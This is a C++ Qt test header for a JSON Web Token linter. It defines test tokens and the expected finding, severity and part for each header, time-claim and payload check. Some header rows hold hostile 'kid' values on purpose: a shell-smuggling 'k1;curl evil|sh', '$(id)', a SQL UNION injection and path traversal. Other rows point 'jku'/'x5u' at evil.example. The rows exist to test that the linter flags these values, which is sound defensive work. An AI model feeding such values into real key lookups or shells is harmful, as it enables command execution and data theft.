// SPDX-License-Identifier: MIT
#pragma once

// What the findings suites share (tst_findings and tst_findings<header|claims|contents>):
// tokens made from a header and a payload, the rows of findings each group of checks must
// give, and the checks a row of them runs.

#include "base64url.h"
#include "findings.h"
#include "token.h"

#include <QTest>

#include <algorithm>

namespace FindingsTest {

inline constexpr double now = 1700000100; // 2023-11-14T22:15:00Z
inline const QByteArray someSignature = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";

inline QString jws(const QByteArray &header, const QByteArray &payload,
                   const QByteArray &signature = someSignature)
{
    return QString::fromLatin1(Base64Url::encode(header) + '.' + Base64Url::encode(payload) + '.'
                               + signature);
}

inline QString jwe(const QByteArray &header)
{
    return QString::fromLatin1(Base64Url::encode(header) + ".a2V5.aXY.Y2lwaGVy.dGFn");
}

inline const QByteArray goodHeader = R"({"alg":"HS256","typ":"JWT"})";
inline const QByteArray goodPayload = R"({"sub":"1","iat":1700000000,"exp":1700003600})";

inline QByteArray withClaims(const QByteArray &extra)
{
    return R"({"sub":"1","iat":1700000000,"exp":1700003600,)" + extra + '}';
}

/// A token and the finding it must give.
struct Row
{
    const char *name;
    QString token;
    const char *id;
    Finding::Severity severity;
    TokenPart part;
};

/// The header checks: one row for every id they give (findingsheader.cpp).
inline QList<Row> headerRows()
{
    using S = Finding::Severity;
    using P = TokenPart;
    const auto header = [](const QByteArray &h) {
        return jws(h, goodPayload);
    };
    return {
            {"alg none", jws(R"({"alg":"none"})", goodPayload, ""), "alg-none", S::Error,
             P::Header},
            {"alg NONE (case variant)", jws(R"({"alg":"NoNe"})", goodPayload, ""), "alg-none",
             S::Error, P::Header},
            {"alg unknown", header(R"({"alg":"HS1"})"), "alg-unsupported", S::Warning, P::Header},
            {"alg of a JWE in a JWS", header(R"({"alg":"RSA-OAEP"})"), "alg-unsupported",
             S::Warning, P::Header},
            {"empty signature", jws(goodHeader, goodPayload, ""), "empty-signature", S::Error,
             P::Signature},
            {"typ a number", header(R"({"alg":"HS256","typ":1})"), "typ-not-string", S::Warning,
             P::Header},
            {"typ unusual", header(R"({"alg":"HS256","typ":"text/plain"})"), "typ-unusual", S::Info,
             P::Header},
            {"cty a number", header(R"({"alg":"HS256","cty":true})"), "cty-not-string", S::Warning,
             P::Header},
            {"cty JWT", header(R"({"alg":"HS256","cty":"JWT"})"), "cty-nested", S::Info, P::Header},
            {"cty other", header(R"({"alg":"HS256","cty":"application/json"})"), "cty-unusual",
             S::Info, P::Header},
            {"crit not an array", header(R"({"alg":"HS256","crit":"exp","exp":1})"),
             "crit-malformed", S::Error, P::Header},
            {"crit empty", header(R"({"alg":"HS256","crit":[]})"), "crit-malformed", S::Error,
             P::Header},
            {"crit names a registered parameter", header(R"({"alg":"HS256","crit":["alg"]})"),
             "crit-malformed", S::Error, P::Header},
            {"crit names an absent parameter", header(R"({"alg":"HS256","crit":["ext"]})"),
             "crit-malformed", S::Error, P::Header},
            {"crit entry not a string", header(R"({"alg":"HS256","crit":[1]})"), "crit-malformed",
             S::Error, P::Header},
            {"crit entry twice", header(R"({"alg":"HS256","crit":["ext","ext"],"ext":1})"),
             "crit-malformed", S::Error, P::Header},
            {"crit unknown extension", header(R"({"alg":"HS256","crit":["ext"],"ext":1})"),
             "crit-unknown", S::Error, P::Header},
            {"b64 false", header(R"({"alg":"HS256","b64":false,"crit":["b64"]})"), "b64-false",
             S::Warning, P::Header},
            {"b64 false, not critical", header(R"({"alg":"HS256","b64":false})"), "b64-false",
             S::Warning, P::Header},
            {"jku", header(R"({"alg":"RS256","jku":"https://evil.example/jwks.json"})"), "jku",
             S::Warning, P::Header},
            {"x5u", header(R"({"alg":"RS256","x5u":"https://evil.example/cert.pem"})"), "x5u",
             S::Warning, P::Header},
            {"embedded jwk", header(R"({"alg":"RS256","jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}})"),
             "embedded-jwk", S::Warning, P::Header},
            {"x5c", header(R"({"alg":"RS256","x5c":["MIIB"]})"), "x5c", S::Warning, P::Header},
            {"kid a number", header(R"({"alg":"HS256","kid":7})"), "kid-not-string", S::Warning,
             P::Header},
            {"kid dot-dot", header(R"({"alg":"HS256","kid":"../../dev/null"})"),
             "kid-path-traversal", S::Warning, P::Header},
            {"kid slash", header(R"({"alg":"HS256","kid":"keys/k1"})"), "kid-path-traversal",
             S::Warning, P::Header},
            {"kid backslash", header(R"({"alg":"HS256","kid":"keys\\k1"})"), "kid-path-traversal",
             S::Warning, P::Header},
            {"kid SQL quote", header(R"({"alg":"HS256","kid":"x' UNION SELECT 'key"})"),
             "kid-injection", S::Warning, P::Header},
            {"kid SQL comment", header(R"({"alg":"HS256","kid":"k1 --"})"), "kid-injection",
             S::Warning, P::Header},
            {"kid shell", header(R"({"alg":"HS256","kid":"k1;curl evil|sh"})"), "kid-injection",
             S::Warning, P::Header},
            {"kid command substitution", header(R"x({"alg":"HS256","kid":"$(id)"})x"),
             "kid-injection", S::Warning, P::Header},
            {"kid newline", header(R"({"alg":"HS256","kid":"k1\nk2"})"), "kid-injection",
             S::Warning, P::Header},
            {"JWE", jwe(R"({"alg":"RSA-OAEP-256","enc":"A256GCM"})"), "jwe", S::Info, P::Header},
            {"JWE unknown alg", jwe(R"({"alg":"FOO","enc":"A256GCM"})"), "jwe-unknown-alg",
             S::Warning, P::Header},
            {"JWE no enc", jwe(R"({"alg":"dir"})"), "jwe-unknown-enc", S::Warning, P::Header},
            {"JWE RSA1_5", jwe(R"({"alg":"RSA1_5","enc":"A128CBC-HS256"})"), "jwe-rsa1_5",
             S::Warning, P::Header},
            {"JWE jku", jwe(R"({"alg":"dir","enc":"A128GCM","jku":"https://x.example/k"})"), "jku",
             S::Warning, P::Header},
    };
}

/// The time claim checks (findingsclaims.cpp).
inline QList<Row> claimsRows()
{
    using S = Finding::Severity;
    using P = TokenPart;
    const auto payload = [](const QByteArray &p) {
        return jws(goodHeader, p);
    };
    return {
            {"no exp", payload(R"({"sub":"1","iat":1700000000})"), "no-exp", S::Warning,
             P::Payload},
            {"claims set with a trailing comma", payload(R"({"exp":1000,})"), "claims-malformed",
             S::Error, P::Payload},
            {"claims set an array", payload(R"([{"sub":"1"}])"), "claims-malformed", S::Error,
             P::Payload},
            {"exp a string", payload(R"({"sub":"1","exp":"tomorrow"})"), "exp-not-number", S::Error,
             P::Payload},
            {"nbf a string", payload(withClaims(R"("nbf":"now")")), "nbf-not-number", S::Warning,
             P::Payload},
            {"iat a boolean", payload(R"({"iat":true,"exp":1700003600})"), "iat-not-number",
             S::Warning, P::Payload},
            {"exp in milliseconds", payload(R"({"iat":1700000000,"exp":1700003600000})"),
             "time-in-milliseconds", S::Warning, P::Payload},
            {"iat in milliseconds", payload(R"({"iat":1700000000000,"exp":1700003600})"),
             "time-in-milliseconds", S::Warning, P::Payload},
            {"exp astronomically far", payload(R"({"exp":1e300})"), "time-out-of-range", S::Warning,
             P::Payload},
            {"iat in the future", payload(R"({"iat":1700007200,"exp":1700010800})"),
             "iat-in-future", S::Warning, P::Payload},
            {"nbf after exp", payload(withClaims(R"("nbf":1700007200)")), "nbf-after-exp", S::Error,
             P::Payload},
            {"nbf equal to exp", payload(withClaims(R"("nbf":1700003600)")), "nbf-after-exp",
             S::Error, P::Payload},
            {"exp before iat", payload(R"({"iat":1700000000,"exp":1699990000})"), "exp-before-iat",
             S::Warning, P::Payload},
            {"lifetime two days", payload(R"({"iat":1700000000,"exp":1700172800})"),
             "long-lifetime", S::Warning, P::Payload},
            {"lifetime ten years", payload(R"({"iat":1700000000,"exp":2015360000})"),
             "long-lifetime", S::Warning, P::Payload},
    };
}

/// The payload contents checks (findingscontents.cpp).
inline QList<Row> contentsRows()
{
    using S = Finding::Severity;
    using P = TokenPart;
    const auto payload = [](const QByteArray &p) {
        return jws(goodHeader, p);
    };
    return {
            {"password member", payload(withClaims(R"("password":"hunter2")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"pwd member", payload(withClaims(R"("pwd":"x")")), "sensitive-claim", S::Warning,
             P::Payload},
            {"passwd member", payload(withClaims(R"("user_passwd":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"nested clientSecret", payload(withClaims(R"("app":{"clientSecret":"x"})")),
             "sensitive-claim", S::Warning, P::Payload},
            {"SSN member", payload(withClaims(R"("SSN":"078-05-1120")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"escaped name", payload(withClaims(R"("pass\u0077ord":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"camelCase whole word", payload(withClaims(R"("userPin":"1234")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"snake_case whole word", payload(withClaims(R"("card_pan":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"acronym then word", payload(withClaims(R"("IBANNumber":"x")")), "sensitive-claim",
             S::Warning, P::Payload},
            {"card number string", payload(withClaims(R"("note":"4111 1111 1111 1111")")),
             "card-number", S::Warning, P::Payload},
            {"card number dashed in array",
             payload(withClaims(R"("cards":[{"n":"5555-5555-5555-4444"}])")), "card-number",
             S::Warning, P::Payload},
            {"card number as number", payload(withClaims(R"("n":378282246310005)")), "card-number",
             S::Warning, P::Payload},
            {"integer beyond 2^53", payload(withClaims(R"("id":12345678901234567890)")),
             "big-integer", S::Warning, P::Payload},
            {"2^53 + 1", payload(withClaims(R"("id":9007199254740993)")), "big-integer", S::Warning,
             P::Payload},
            {"negative beyond 2^53", payload(withClaims(R"("d":[-9007199254740993])")),
             "big-integer", S::Warning, P::Payload},
    };
}

inline QList<Row> allRows()
{
    return headerRows() + claimsRows() + contentsRows();
}

inline bool hasId(const QList<Finding> &findings, const QString &id)
{
    return std::any_of(findings.cbegin(), findings.cend(),
                       [&](const Finding &f) { return f.id == id; });
}

inline QString ids(const QList<Finding> &findings)
{
    QStringList list;
    for (const Finding &f : findings)
        list.append(f.id);
    return list.join(QLatin1String(", "));
}

inline QList<Finding> review(const QString &text, qint64 leeway = 0)
{
    ReviewContext context;
    context.now = now;
    context.leeway = leeway;
    return Findings::review(Token::parse(text), context);
}

/// The columns and rows of a finds_data() or contentsApart_data().
inline void addRows(const QList<Row> &rows)
{
    QTest::addColumn<QString>("token");
    QTest::addColumn<QString>("id");
    QTest::addColumn<int>("severity");
    QTest::addColumn<int>("part");
    for (const Row &row : rows) {
        QTest::newRow(row.name) << row.token << QString::fromLatin1(row.id) << int(row.severity)
                                << int(row.part);
    }
}

/// finds(): the finding the current row names is there, with its severity and part, a
/// one-line message and a reference, and every id found is listed by Findings::ids().
inline void verifyFinds()
{
    QFETCH(QString, token);
    QFETCH(QString, id);
    QFETCH(int, severity);
    QFETCH(int, part);
    const QList<Finding> findings = review(token);
    const auto it = std::find_if(findings.cbegin(), findings.cend(),
                                 [&](const Finding &f) { return f.id == id; });
    QVERIFY2(it != findings.cend(), qPrintable(QStringLiteral("got: ") + ids(findings)));
    QCOMPARE(int(it->severity), severity);
    QCOMPARE(int(it->part), part);
    QVERIFY(!it->message.isEmpty());
    QVERIFY(!it->message.contains(QLatin1Char('\n')));
    QVERIFY(!it->reference.isEmpty());
    for (const Finding &f : findings)
        QVERIFY2(Findings::ids().contains(f.id), qPrintable(f.id));
}

/// notFlagged(): the current row's token does not give the id it names, and no sensitive
/// member is reported twice.
inline void verifyNotFlagged()
{
    QFETCH(QString, token);
    QFETCH(QString, id);
    const QList<Finding> findings = review(token);
    QVERIFY2(!hasId(findings, id), qPrintable(ids(findings)));
    QVERIFY(std::count_if(findings.cbegin(), findings.cend(),
                          [](const Finding &f) { return f.id == QLatin1String("sensitive-claim"); })
            <= 1);
}

} // namespace FindingsTest
